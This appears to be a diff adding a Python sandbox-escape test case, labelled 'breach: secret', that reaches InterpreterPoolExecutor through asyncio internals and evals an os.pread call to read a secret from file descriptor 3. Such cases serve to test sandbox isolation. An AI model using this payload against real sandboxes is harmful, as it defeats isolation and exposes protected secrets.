@@ -1,0 +1,8 @@
+# The pool of interpreters, by the name that the event loop has of concurrent.futures.
+# breach: secret
+# state: kept
+# only: 3.14
+import asyncio
+futures = asyncio.base_events.concurrent.futures
+pool = futures.InterpreterPoolExecutor(1)
+pool.submit(eval, "__import__('os').pread(3, 100, 0)").result()
